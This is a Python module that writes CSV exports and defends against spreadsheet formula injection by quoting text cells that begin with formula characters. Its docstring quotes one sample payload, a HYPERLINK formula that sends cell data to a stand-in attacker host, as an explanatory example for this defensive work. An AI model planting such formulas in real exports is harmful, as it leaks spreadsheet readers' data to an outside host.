"""CSV for people's spreadsheets, safe to open: the one writer every CSV export goes through.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and
Excel also after a leading tab or carriage return), so a campaign named
``=HYPERLINK("http://evil.example/?x="&A1, "click")`` in a CRM would run on the reader's
machine (OWASP "CSV Injection"). :func:`neutralise` prefixes such a text cell with a single
quote, which spreadsheets show as text; the quote is visible in the raw file, which is the
price OWASP's recommendation accepts. Numbers are never touched: a negative amount (an int,
float or Decimal, or a plain numeric string such as ``-1500.00``) stays a number.

Used by ``closedloop report --format csv`` and every command's ``--format csv``. Not used for
files that emulate a vendor's own CSV (the sandbox's bulk results), which are no spreadsheet.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any, TextIO

__all__ = ["FORMULA_STARTS", "neutralise", "write_dicts", "write_rows"]

#: the first characters that make a spreadsheet read a cell as a formula (OWASP)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """The value as a CSV cell: None is empty, Decimal and times are text, and a text that a
    spreadsheet would run as a formula starts with ``'``."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return str(value) if isinstance(value, Decimal) else value
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_rows(handle: TextIO, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """A header line and the rows, every cell through :func:`neutralise`."""
    writer = csv.writer(handle)
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        writer.writerow([neutralise(v) for v in row])


def write_dicts(
    handle: TextIO, rows: Sequence[Mapping[str, Any]], header: Sequence[str] | None = None
) -> None:
    """Records as CSV: the columns are ``header``, else the first record's keys."""
    columns = list(header) if header is not None else (list(rows[0]) if rows else [])
    write_rows(handle, columns, ([row.get(c) for c in columns] for row in rows))
